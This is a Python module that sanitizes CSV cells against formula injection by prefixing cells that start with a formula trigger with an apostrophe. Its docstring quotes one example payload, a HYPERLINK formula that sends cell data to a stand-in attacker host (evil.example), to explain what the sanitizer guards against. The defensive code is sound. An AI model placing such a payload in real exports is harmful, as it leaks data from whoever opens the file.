"""CSV cells that a spreadsheet will not run as formulas (CSV/formula injection).

Downloads are opened in Excel or LibreOffice, which evaluate a cell starting with `=`, `+`,
`-` or `@` (and, after their own trimming, with a tab or carriage return) as a formula:
`=HYPERLINK("https://evil.example/?"&A1, "click")` would exfiltrate data. `safe_cell`
prefixes such text with an apostrophe, which spreadsheets show as plain text (the OWASP
recommendation). Real numbers are not text and are written as they are.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> str:
    """Return `value` as a CSV cell a spreadsheet will treat as data.

    None is "", dates are ISO 8601, booleans "true"/"false", int/float/Decimal their
    `str()` (a number such as -3 is not a formula). Any other value becomes `str(value)`,
    prefixed with "'" when it starts with one of = + - @ TAB CR.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, dt.date | dt.datetime):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def write_csv(rows: Iterable[Sequence[Any]], header: Sequence[str]) -> str:
    """Return RFC 4180 CSV text (CRLF line ends, minimal quoting): `header`, then `rows`,
    every cell (the header's too) passed through `safe_cell`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(h) for h in header])
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()
